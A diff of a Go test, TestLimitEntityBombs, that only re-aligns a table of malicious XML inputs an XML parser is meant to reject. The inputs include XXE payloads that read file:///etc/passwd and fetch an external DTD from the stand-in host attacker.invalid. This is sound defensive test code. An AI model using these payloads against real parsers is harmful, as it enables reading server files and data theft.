@@ -105,8 +105,8 @@ func TestLimitEntityBombs(t *testing.T) {
 		"billion laughs": laughs,
 		"XXE system entity": `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>` +
 			`<roap:roRequest xmlns:roap="urn:oma:bac:dldrm:roap-1.0"><nonce>&xxe;</nonce></roap:roRequest>`,
-		"XXE parameter entity": `<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.invalid/x.dtd"> %p;]><r/>`,
-		"external DTD":         `<!DOCTYPE r SYSTEM "http://attacker.invalid/x.dtd"><r>&ent;</r>`,
+		"XXE parameter entity":    `<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.invalid/x.dtd"> %p;]><r/>`,
+		"external DTD":            `<!DOCTYPE r SYSTEM "http://attacker.invalid/x.dtd"><r>&ent;</r>`,
 		"DOCTYPE after a comment": `<!-- hi --><!DOCTYPE r [<!ENTITY a "b">]><r>&a;</r>`,
 		"DOCTYPE after the root":  `<r/><!DOCTYPE r>`,
 	}
